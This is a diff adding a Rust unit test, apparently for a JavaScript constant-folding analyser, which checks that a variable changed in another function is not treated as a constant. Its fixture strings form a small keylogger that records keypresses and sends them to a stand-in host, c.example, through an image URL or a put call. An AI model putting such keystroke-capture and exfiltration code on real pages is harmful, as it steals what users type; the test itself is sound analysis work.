@@ -508,6 +508,23 @@ mod tests {
     }
 
     #[test]
+    fn what_another_function_changes_is_no_constant() {
+        let late = "onkeypress=function(e){k+=e.key};";
+        for early in
+            ["function send(){img.src='//c.example/?k='+k}", "var send=function(){put('//c.example/?k='+k)};"]
+        {
+            assert_eq!(texts(&format!("var k='';{early}{late}")), [] as [&str; 0], "{early}");
+            // Both in a function that nobody calls, either.
+            assert_eq!(
+                texts(&format!("function all(){{var k='';{early}{late}}}")),
+                [] as [&str; 0],
+                "{early}"
+            );
+        }
+        assert_eq!(texts("var k='a';function f(){use(k+'b')}function g(){k='a'}"), ["ab"]);
+    }
+
+    #[test]
     fn this_does_nothing_by_itself() {
         assert_eq!(texts("function g(i){return ['ab','cd'][i]}function h(){use(g.apply(this,[1]))}"), ["cd"]);
     }
